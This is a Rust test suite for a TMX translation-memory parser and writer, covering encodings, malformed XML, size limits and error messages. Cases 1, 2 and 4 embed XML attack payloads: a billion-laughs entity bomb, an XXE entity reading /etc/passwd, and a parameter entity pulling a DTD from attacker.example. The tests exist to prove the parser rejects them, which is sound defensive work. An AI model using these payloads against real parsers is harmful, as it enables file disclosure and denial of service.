//! The test plan of the reliability notes (§5.2), case by case, numbered as there.
//! Inputs are synthetic and written here; big ones are generated. Cases 52 (kill during a
//! save) and 53 (concurrent saves) concern the store, not the format layer.
//!
//! Fatal errors name file, line and column (decoded characters); in `doc`, the body starts
//! on line 5, and in a `tu(..)` the English segment's text starts at column 29.

use super::{HEADER, codes, doc, fatal, read, tu, utf16};
use crate::tmx::{
    ErrorKind, Inline, InlineKind, Invalid, Severity, SrcLang, TmxReader, TmxWriter, Tu,
    WriteError, check_tu, read_all_bytes, write_all,
};
use crate::xml::CodePoint;

fn prolog_doc(doctype: &str, body: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n{doctype}\n<tmx version=\"1.4\">\n{HEADER}\n<body>\n{body}\n</body>\n</tmx>\n"
    )
}

fn seg_text(tu: &Tu, index: usize) -> String {
    tu.tuvs[index].seg.plain_text()
}

#[test]
fn case_01_billion_laughs() {
    let doctype = "<!DOCTYPE tmx [\n <!ENTITY lol \"lol\">\n <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n <!ENTITY lol9 \"&lol2;&lol2;\">\n]>";
    let error = fatal(prolog_doc(doctype, &tu("&lol9;", "x")).as_bytes());
    assert!(
        matches!(error.kind, ErrorKind::EntityDeclaration),
        "{error}"
    );
    assert_eq!((error.line, error.column), (3, 2));
    assert_eq!(
        error.to_string(),
        "`test.tmx`:3:2: entity declarations are not supported (found `<!ENTITY`)"
    );
}

#[test]
fn case_02_xxe_file() {
    let doctype = "<!DOCTYPE tmx [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
    let error = fatal(prolog_doc(doctype, &tu("&xxe;", "x")).as_bytes());
    assert!(
        matches!(error.kind, ErrorKind::EntityDeclaration),
        "{error}"
    );
    // Without the declaration the reference is simply undefined: nothing is ever fetched.
    let error = fatal(doc(&tu("&xxe;", "x")).as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::UndefinedEntity(name) if name == "xxe"),
        "{error}"
    );
}

#[test]
fn case_03_external_dtd_http_is_kept_not_fetched() {
    let doctype = "<!DOCTYPE tmx SYSTEM \"http://www.lisa.org/tmx/tmx14.dtd\">";
    let (tmx, problems) = read(prolog_doc(doctype, &tu("a", "b")).as_bytes()).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(
        tmx.doctype.as_deref(),
        Some("tmx SYSTEM \"http://www.lisa.org/tmx/tmx14.dtd\"")
    );
    let public = "<!DOCTYPE tmx PUBLIC \"-//LISA OSCAR:1998//DTD for Translation Memory eXchange//EN\" \"tmx14.dtd\">";
    let (tmx, _) = read(prolog_doc(public, &tu("a", "b")).as_bytes()).unwrap();
    let written = write_all(Vec::new(), &tmx).unwrap();
    assert!(String::from_utf8(written).unwrap().contains(public));
}

#[test]
fn case_04_parameter_entities() {
    let doctype = "<!DOCTYPE tmx [<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\"> %ext;]>";
    let error = fatal(prolog_doc(doctype, &tu("a", "b")).as_bytes());
    assert!(
        matches!(error.kind, ErrorKind::EntityDeclaration),
        "{error}"
    );
    let error = fatal(prolog_doc("<!DOCTYPE tmx [ %ext; ]>", &tu("a", "b")).as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::ParameterEntity(pe) if pe == "%ext;"),
        "{error}"
    );
    // A `%` in a quoted system literal is no reference.
    let (tmx, _) =
        read(prolog_doc("<!DOCTYPE tmx SYSTEM \"tmx%2014.dtd\">", &tu("a", "b")).as_bytes())
            .unwrap();
    assert_eq!(tmx.tus.len(), 1);
}

#[test]
fn case_05_raw_control_char() {
    let error = fatal(doc(&tu("ab\u{1}", "x")).as_bytes());
    assert!(
        matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(1))),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 31));
    assert_eq!(
        error.to_string(),
        "`test.tmx`:5:31: character U+0001 is not allowed in XML 1.0"
    );
}

#[test]
fn case_06_charref_control() {
    let error = fatal(doc(&tu("ab&#x1;", "x")).as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::ForbiddenCharRef(name, CodePoint(1)) if name == "#x1"),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 31));
}

#[test]
fn case_07_charref_nul() {
    let error = fatal(doc(&tu("&#0;", "x")).as_bytes());
    assert!(
        matches!(error.kind, ErrorKind::ForbiddenCharRef(_, CodePoint(0))),
        "{error}"
    );
}

#[test]
fn case_08_charref_lone_surrogate() {
    let error = fatal(doc(&tu("&#xD800;", "x")).as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::InvalidCharRef(name) if name == "#xD800"),
        "{error}"
    );
}

#[test]
fn case_09_surrogate_pair_as_two_refs() {
    let error = fatal(doc(&tu("&#55356;&#57221;", "x")).as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::InvalidCharRef(name) if name == "#55356"),
        "{error}"
    );
}

#[test]
fn case_10_charref_fffe() {
    let error = fatal(doc(&tu("&#xFFFE;", "x")).as_bytes());
    assert!(
        matches!(
            error.kind,
            ErrorKind::ForbiddenCharRef(_, CodePoint(0xFFFE))
        ),
        "{error}"
    );
    let error = fatal(doc(&tu("\u{FFFF}", "x")).as_bytes());
    assert!(
        matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(0xFFFF))),
        "{error}"
    );
}

#[test]
fn case_11_undefined_entity_nbsp() {
    let error = fatal(doc(&tu("a&nbsp;b", "x")).as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::UndefinedEntity(name) if name == "nbsp"),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 30));
}

#[test]
fn case_12_dangling_ampersand() {
    let error = fatal(doc(&tu("Mail & News", "x")).as_bytes());
    assert!(matches!(error.kind, ErrorKind::Syntax(_)), "{error}");
    assert_eq!(error.line, 5);
}

#[test]
fn case_13_mismatched_end_tag() {
    let body = "<tu><tuv xml:lang=\"en\"><seg>text</tuv></tu>";
    let error = fatal(doc(body).as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::Syntax(m) if m.contains("`</seg>`")),
        "{error}"
    );
    assert_eq!(error.line, 5);
}

#[test]
fn case_14_truncated_mid_element() {
    let whole = doc(&tu("a", "b"));
    let cut = whole.find("<tuv xml:la").unwrap() + 10;
    let error = fatal(&whole.as_bytes()[..cut]);
    assert!(matches!(error.kind, ErrorKind::Syntax(_)), "{error}");
    assert_eq!(error.line, 5);
}

#[test]
fn case_15_empty_file() {
    let error = fatal(b"");
    assert!(matches!(error.kind, ErrorKind::Empty), "{error}");
    assert_eq!(error.to_string(), "`test.tmx`: the file is empty");
}

#[test]
fn case_16_only_utf8_bom() {
    let error = fatal(&[0xEF, 0xBB, 0xBF]);
    assert!(matches!(error.kind, ErrorKind::OnlyBom), "{error}");
    assert!(matches!(fatal(&[0xFF, 0xFE]).kind, ErrorKind::OnlyBom));
    // Whitespace only: no root.
    assert!(matches!(fatal(b" \n").kind, ErrorKind::NoRoot));
}

#[test]
fn case_17_lt_in_attribute() {
    let body = "<tu creationid=\"a<b\"><tuv xml:lang=\"en\"><seg>x</seg></tuv></tu>";
    let error = fatal(doc(body).as_bytes());
    assert!(matches!(error.kind, ErrorKind::LtInAttribute), "{error}");
    assert_eq!((error.line, error.column), (5, 18));
}

#[test]
fn case_18_duplicate_attribute() {
    let body = "<tu><tuv xml:lang=\"en\" xml:lang=\"vi\"><seg>x</seg></tuv></tu>";
    let error = fatal(doc(body).as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::DuplicateAttribute(n) if n == "xml:lang"),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 24));
}

#[test]
fn case_19_cdata_in_seg_is_text_and_never_written_as_cdata() {
    let (tmx, problems) = read(doc(&tu("<![CDATA[a < b & c]]>", "x")).as_bytes()).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(seg_text(&tmx.tus[0], 0), "a < b & c");
    let written = String::from_utf8(write_all(Vec::new(), &tmx).unwrap()).unwrap();
    assert!(written.contains("<seg>a &lt; b &amp; c</seg>"), "{written}");
    assert!(!written.contains("CDATA"));
}

#[test]
fn case_20_cdata_end_in_text() {
    let error = fatal(doc(&tu("a ]]> b", "x")).as_bytes());
    assert!(matches!(error.kind, ErrorKind::CdataEndInText), "{error}");
    assert_eq!((error.line, error.column), (5, 31));
}

#[test]
fn case_21_two_roots() {
    let text = doc(&tu("a", "b")) + "<tmx version=\"1.4\"></tmx>\n";
    let error = fatal(text.as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::AfterRoot(what) if what.contains("`<tmx>`")),
        "{error}"
    );
    assert_eq!((error.line, error.column), (8, 1));
}

#[test]
fn case_22_xml11_declaration() {
    let text = doc(&tu("a", "b")).replacen("version=\"1.0\"", "version=\"1.1\"", 1);
    let (tmx, problems) = read(text.as_bytes()).unwrap();
    assert_eq!(tmx.tus.len(), 1);
    assert_eq!(codes(&problems), ["xml-version"]);
}

#[test]
fn case_23_tiled_map_is_not_tmx() {
    let map = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<map version=\"1.10\" orientation=\"orthogonal\" width=\"10\"><tileset firstgid=\"1\"/></map>\n";
    let error = fatal(map.as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::NotTmx(root) if root == "map"),
        "{error}"
    );
    assert_eq!(
        error.to_string(),
        "`test.tmx`:2:1: not a TMX document: the root element is `<map>`"
    );
}

#[test]
fn case_24_invalid_utf8_byte() {
    let text = doc(&tu("cafX", "x"));
    let mut bytes = text.clone().into_bytes();
    let at = text.find("cafX").unwrap() + 3;
    bytes[at] = 0xFF;
    let error = fatal(&bytes);
    assert!(
        matches!(error.kind, ErrorKind::InvalidUtf8 { byte } if byte == at as u64),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 32));
}

#[test]
fn case_25_deep_nesting() {
    let depth = 100_000;
    let seg = "<hi>".repeat(depth) + "x" + &"</hi>".repeat(depth);
    let error = fatal(doc(&tu(&seg, "x")).as_bytes());
    assert!(
        matches!(
            error.kind,
            ErrorKind::Limit {
                limit: "max_depth",
                max: 128,
                ..
            }
        ),
        "{error}"
    );
    assert_eq!(error.line, 5);
}

#[test]
fn case_26_huge_attribute() {
    let value = "a".repeat(20 << 20);
    let body = format!("<tu creationid=\"{value}\"><tuv xml:lang=\"en\"><seg>x</seg></tuv></tu>");
    let error = fatal(doc(&body).as_bytes());
    assert!(
        matches!(
            error.kind,
            ErrorKind::Limit {
                limit: "max_attr_len",
                ..
            }
        ),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 17));
    assert!(error.to_string().contains("`max_attr_len`"));
}

#[test]
fn case_27_unclosed_root_at_eof() {
    let text = format!(
        "<?xml version=\"1.0\"?>\n<tmx version=\"1.4\">\n{HEADER}\n<body>\n{}\n",
        tu("a", "b")
    );
    let error = fatal(text.as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::UnclosedAtEof(list) if list == "`<body>`, `<tmx>`"),
        "{error}"
    );
    assert_eq!((error.line, error.column), (6, 1));
    // The TU before the end was read: a streaming caller has it.
    let mut reader = TmxReader::from_bytes("test.tmx", text.as_bytes()).unwrap();
    assert!(reader.next_tu().unwrap().is_some());
    assert!(reader.next_tu().is_err());
}

#[test]
fn case_28_text_after_root() {
    let text = doc(&tu("a", "b")) + "garbage";
    let error = fatal(text.as_bytes());
    assert!(
        matches!(&error.kind, ErrorKind::AfterRoot(what) if what == "text"),
        "{error}"
    );
    // Comments and whitespace after the root are fine.
    let text = doc(&tu("a", "b")) + "<!-- end -->\n\n";
    assert!(read(text.as_bytes()).is_ok());
}

#[test]
fn case_29_nfd_vietnamese_is_kept_as_written() {
    let nfd = "Tie\u{302}\u{301}ng Vie\u{323}\u{302}t";
    let nfc = "Tiếng Việt";
    let (tmx, _) = read(doc(&tu("Vietnamese", nfd)).as_bytes()).unwrap();
    assert_eq!(seg_text(&tmx.tus[0], 1), nfd);
    assert_ne!(seg_text(&tmx.tus[0], 1), nfc);
    let written = write_all(Vec::new(), &tmx).unwrap();
    assert!(String::from_utf8(written).unwrap().contains(nfd));
}

#[test]
fn case_30_crlf_and_cr_in_seg_become_lf() {
    let (tmx, _) = read(doc(&tu("a\r\nb\rc\n", "x")).as_bytes()).unwrap();
    assert_eq!(seg_text(&tmx.tus[0], 0), "a\nb\nc\n");
}

#[test]
fn case_31_charref_cr_is_kept_and_written_back() {
    let (tmx, _) = read(doc(&tu("a&#13;&#10;b", "x")).as_bytes()).unwrap();
    assert_eq!(seg_text(&tmx.tus[0], 0), "a\r\nb");
    let written = write_all(Vec::new(), &tmx).unwrap();
    assert!(
        String::from_utf8(written.clone())
            .unwrap()
            .contains("<seg>a&#13;\nb</seg>")
    );
    let (again, _) = read(&written).unwrap();
    assert_eq!(seg_text(&again.tus[0], 0), "a\r\nb");
}

#[test]
fn case_32_nel_and_line_separator_are_kept() {
    let (tmx, _) = read(doc(&tu("a\u{85}b\u{2028}c", "x")).as_bytes()).unwrap();
    assert_eq!(seg_text(&tmx.tus[0], 0), "a\u{85}b\u{2028}c");
}

#[test]
fn case_33_bidi_controls_are_kept() {
    let (tmx, _) = read(doc(&tu("\u{202E}abc\u{200B}", "x")).as_bytes()).unwrap();
    assert_eq!(seg_text(&tmx.tus[0], 0), "\u{202E}abc\u{200B}");
}

#[test]
fn case_34_utf16le_lone_surrogate() {
    let text = doc(&tu("ab", "x"));
    let mut bytes = utf16(&text, true, false);
    let unit = 2 + 2 * text
        .encode_utf16()
        .take(text.find("ab").unwrap() + 1)
        .count();
    bytes[unit..unit + 2].copy_from_slice(&0xDC00u16.to_le_bytes());
    let error = fatal(&bytes);
    assert!(
        matches!(error.kind, ErrorKind::InvalidData { encoding: "UTF-16LE", byte } if byte == unit as u64),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 30));
}

#[test]
fn case_35_utf16le_without_bom() {
    let text = doc(&tu("Tiếng Việt", "x")).replacen("UTF-8", "UTF-16", 1);
    let bytes = utf16(&text, false, false);
    let reader = TmxReader::from_bytes("test.tmx", &bytes).unwrap();
    assert_eq!(reader.encoding().name(), "UTF-16LE");
    assert!(!reader.encoding().has_bom());
    let (tmx, problems) = reader.read_to_end().unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(seg_text(&tmx.tus[0], 0), "Tiếng Việt");
    let bytes = utf16(&doc(&tu("b", "x")), false, true);
    let (tmx, problems) = read(&bytes).unwrap();
    assert_eq!(seg_text(&tmx.tus[0], 0), "b");
    // The declaration says UTF-8: the bytes win, with a warning.
    assert_eq!(codes(&problems), ["encoding-mismatch"]);
}

#[test]
fn case_36_utf8_bom_but_declared_utf16() {
    let text = doc(&tu("a", "b")).replacen("UTF-8", "UTF-16", 1);
    let bytes = [&[0xEF, 0xBB, 0xBF][..], text.as_bytes()].concat();
    let (tmx, problems) = read(&bytes).unwrap();
    assert_eq!(tmx.tus.len(), 1);
    assert_eq!(codes(&problems), ["encoding-mismatch"]);
    assert_eq!(problems[0].severity, Severity::Warning);
}

#[test]
fn case_37_utf16_odd_length() {
    let mut bytes = utf16(&doc(&tu("a", "b")), true, false);
    bytes.push(b'\n');
    let error = fatal(&bytes);
    assert!(
        matches!(
            error.kind,
            ErrorKind::TruncatedData {
                encoding: "UTF-16LE"
            }
        ),
        "{error}"
    );
}

#[test]
fn case_38_latin1_bytes_declared_utf8() {
    let text = doc(&tu("caf\u{e9}!", "x"));
    let at = text.find('\u{e9}').unwrap();
    let mut bytes = text.as_bytes()[..at].to_vec();
    bytes.push(0xE9);
    bytes.extend_from_slice(&text.as_bytes()[at + 2..]);
    let error = fatal(&bytes);
    assert!(
        matches!(error.kind, ErrorKind::InvalidUtf8 { byte } if byte == at as u64),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 32));
    assert!(
        error.to_string().contains("windows-1252"),
        "the message suggests declaring it"
    );
}

#[test]
fn case_39_gzip_renamed() {
    let error = fatal(&[0x1F, 0x8B, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]);
    assert!(matches!(error.kind, ErrorKind::Gzip), "{error}");
    assert!(matches!(fatal(b"PK\x03\x04rest").kind, ErrorKind::Zip));
}

#[test]
fn case_40_raw_nul() {
    let error = fatal(doc(&tu("a\0", "x")).as_bytes());
    assert!(
        matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(0))),
        "{error}"
    );
    assert_eq!((error.line, error.column), (5, 30));
}

#[test]
fn case_41_utf32le_bom() {
    let mut bytes = vec![0xFF, 0xFE, 0x00, 0x00];
    for c in "<?xml version=\"1.0\"?><tmx/>".chars() {
        bytes.extend_from_slice(&(c as u32).to_le_bytes());
    }
    let error = fatal(&bytes);
    assert!(matches!(error.kind, ErrorKind::Utf32), "{error}");
    assert!(matches!(
        fatal(&[0, 0, 0xFE, 0xFF, 0, 0, 0, 0x3C]).kind,
        ErrorKind::Utf32
    ));
}

#[test]
fn case_42_iso8859_1_declared() {
    let text = doc(&tu("caf\u{e9} X", "x")).replacen("UTF-8", "ISO-8859-1", 1);
    let mut bytes = Vec::new();
    for c in text.chars() {
        match c {
            'é' => bytes.push(0xE9),
            // 0x80 is a C1 control in ISO-8859-1 but `€` in windows-1252.
            'X' => bytes.push(0x80),
            c => bytes.push(c as u8),
        }
    }
    let reader = TmxReader::from_bytes("test.tmx", &bytes).unwrap();
    assert_eq!(reader.encoding().name(), "windows-1252");
    assert_eq!(reader.encoding().declared(), Some("ISO-8859-1"));
    let (tmx, problems) = reader.read_to_end().unwrap();
    assert_eq!(codes(&problems), ["latin1-as-windows-1252"]);
    assert_eq!(seg_text(&tmx.tus[0], 0), "café €");
}

#[test]
fn case_43_declared_utf16_but_8bit_bytes() {
    let text = doc(&tu("a", "b"))
        .replacen("UTF-8", "utf-16", 1)
        .replace('\n', "\r\n");
    let (tmx, problems) = read(text.as_bytes()).unwrap();
    assert_eq!(tmx.tus.len(), 1);
    assert_eq!(codes(&problems), ["encoding-mismatch"]);
}

#[test]
fn case_44_header_missing_required_attributes() {
    let text = doc(&tu("a", "b")).replace(HEADER, "<header adminlang=\"en\" srclang=\"en\"/>");
    let (tmx, problems) = read(text.as_bytes()).unwrap();
    assert_eq!(tmx.tus.len(), 1);
    assert_eq!(codes(&problems), ["missing-header-attr"]);
    assert!(
        problems[0]
            .message
            .contains("`creationtool`, `creationtoolversion`, `segtype`, `o-tmf`, `datatype`")
    );
}

#[test]
fn case_45_srclang_all_and_prop_without_type() {
    let header = "<header creationtool=\"z\" creationtoolversion=\"1\" segtype=\"paragraph\" o-tmf=\"z\" adminlang=\"en\" srclang=\"*all*\" datatype=\"plaintext\"/>";
    let body = "<tu><prop name=\"gettext-context\">ctx</prop><tuv xml:lang=\"fr\"><seg>Bonjour</seg></tuv><tuv xml:lang=\"de\"><seg>Hallo</seg></tuv></tu>";
    let text = doc(body).replace(HEADER, header);
    let (tmx, problems) = read(text.as_bytes()).unwrap();
    // `*all*`: no source language to miss.
    assert_eq!(codes(&problems), ["prop-without-type"]);
    let tu = &tmx.tus[0];
    assert_eq!(tu.srclang(&tmx.header), Some(SrcLang::All));
    assert!(tu.source_tuv(&tmx.header).is_none());
    let crate::tmx::Meta::Prop(prop) = &tu.meta[0] else {
        panic!()
    };
    assert_eq!(prop.attr("name"), Some("gettext-context"));
    assert_eq!(prop.kind(), None);
}

#[test]
fn case_46_invalid_level2_is_kept_with_warnings() {
    let seg = "<ept i=\"1\">&lt;/b&gt;</ept>x<bpt i=\"1\">&lt;b&gt;</bpt><bpt i=\"1\">&lt;i&gt;</bpt> <it pos=\"begin\">&lt;u&gt;</it><bpt i=\"2\">{</bpt>";
    let (tmx, problems) = read(doc(&tu(seg, "y")).as_bytes()).unwrap();
    assert_eq!(
        codes(&problems),
        ["ept-without-bpt", "duplicate-i", "unbalanced-bpt"]
    );
    assert!(
        problems
            .iter()
            .all(|p| p.severity == Severity::Warning && p.tu_index == Some(0))
    );
    let content = &tmx.tus[0].tuvs[0].seg.0;
    assert_eq!(content.len(), 7);
    let Inline::Element(ept) = &content[0] else {
        panic!()
    };
    assert_eq!(ept.kind, InlineKind::Ept);
    assert_eq!(ept.content, vec![Inline::Text("</b>".into())]);
}

#[test]
fn case_47_empty_bpt_and_duplicate_x() {
    let seg =
        "<bpt i=\"1\" type=\"10001\" x=\"2\"/>a<ept i=\"1\"/><bpt i=\"2\" x=\"2\"/>b<ept i=\"2\"/>";
    let (tmx, problems) = read(doc(&tu(seg, "y")).as_bytes()).unwrap();
    assert_eq!(codes(&problems), ["duplicate-x"]);
    let Inline::Element(bpt) = &tmx.tus[0].tuvs[0].seg.0[0] else {
        panic!()
    };
    assert!(bpt.content.is_empty());
    assert_eq!(bpt.attr("type"), Some("10001"));
}

#[test]
fn case_48_ctime_date_is_kept() {
    let ctime = "Tue Jan 29 12:49:40 2013";
    let text = doc(&tu("a", "b")).replace(
        "datatype=\"plaintext\"/>",
        &format!("datatype=\"plaintext\" creationdate=\"{ctime}\"/>"),
    );
    let (tmx, problems) = read(text.as_bytes()).unwrap();
    assert_eq!(codes(&problems), ["bad-date"]);
    assert_eq!(tmx.header.attr("creationdate"), Some(ctime));
}

#[test]
fn case_49_lang_and_xml_lang_mixed_in_tmx_11() {
    let body =
        "<tu><tuv lang=\"en\"><seg>a</seg></tuv><tuv xml:lang=\"be\"><seg>b</seg></tuv></tu>";
    let text = doc(body).replace("version=\"1.4\"", "version=\"1.1\"");
    let (tmx, problems) = read(text.as_bytes()).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(tmx.version, "1.1");
    let tuvs = &tmx.tus[0].tuvs;
    assert_eq!(
        (tuvs[0].lang_raw(), tuvs[1].lang_raw()),
        (Some("en"), Some("be"))
    );
    assert!(
        tuvs[0].attr("xml:lang").is_none(),
        "the original form is remembered"
    );
}

#[test]
fn case_50_two_tuvs_of_one_language() {
    let body = "<tu><tuv lang=\"EN-US\"><seg>s</seg></tuv><tuv lang=\"FR-CA\"><seg>un</seg></tuv><tuv lang=\"FR-CA\"><seg>deux</seg></tuv></tu>";
    let text = doc(body).replace("srclang=\"en\"", "srclang=\"EN-US\"");
    let (tmx, problems) = read(text.as_bytes()).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    let texts: Vec<String> = tmx.tus[0].tuvs.iter().map(|t| t.seg.plain_text()).collect();
    assert_eq!(texts, ["s", "un", "deux"]);
    let fr_ca = "fr-CA".parse().unwrap();
    assert_eq!(tmx.tus[0].tuv(&fr_ca).unwrap().seg.plain_text(), "un");
}

#[test]
fn case_51_conflict_markers() {
    let body = format!(
        "{}\n<<<<<<< HEAD\n{}\n=======\n{}\n>>>>>>> theirs",
        tu("a", "b"),
        tu("c", "d"),
        tu("c", "e")
    );
    let error = fatal(doc(&body).as_bytes());
    assert_eq!(error.line, 6, "{error}");
}

#[test]
fn case_54_writer_refuses_control_characters_and_names_the_tus() {
    let (tmx, _) =
        read(doc(&[tu("good", "tốt"), tu("bad", "x"), tu("also", "y")].join("\n")).as_bytes())
            .unwrap();
    let mut tus = tmx.tus.clone();
    tus[1].set_attr("tuid", "t-2");
    tus[1].tuvs[1].seg = crate::tmx::Seg::text("x\u{1}y");
    tus[2].set_prop("x-note", "z\u{FFFF}");
    let offending: Vec<usize> = tus
        .iter()
        .enumerate()
        .filter(|(_, tu)| check_tu(tu).is_err())
        .map(|(i, _)| i)
        .collect();
    assert_eq!(offending, [1, 2]);
    assert_eq!(
        check_tu(&tus[1]).unwrap_err().to_string(),
        "character U+0001 in `<seg>` of `<tuv>` `vi` is not allowed in XML 1.0"
    );

    let mut writer = TmxWriter::new(Vec::new(), "1.4", &tmx.header).unwrap();
    writer.write_tu(&tus[0]).unwrap();
    let error = writer.write_tu(&tus[1]).unwrap_err();
    assert!(
        matches!(&error, WriteError::InvalidTu { index: 1, tuid: Some(t), reason: Invalid::ForbiddenChar { ch: CodePoint(1), .. } } if t == "t-2")
    );
    assert_eq!(
        error.to_string(),
        "cannot write tu #2 (tuid `t-2`): character U+0001 in `<seg>` of `<tuv>` `vi` is not allowed in XML 1.0"
    );
    let error = writer.write_tu(&tus[2]).unwrap_err();
    assert!(
        error.to_string().starts_with(
            "cannot write tu #3: character U+FFFF in `<prop type=\"x-note\">` of the TU"
        ),
        "{error}"
    );
    // Nothing of the refused TUs was written; the output is well-formed.
    let bytes = writer.finish().unwrap();
    let (back, problems) = read_all_bytes("out.tmx", &bytes).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(back.tus, vec![tus[0].canonical()]);
}
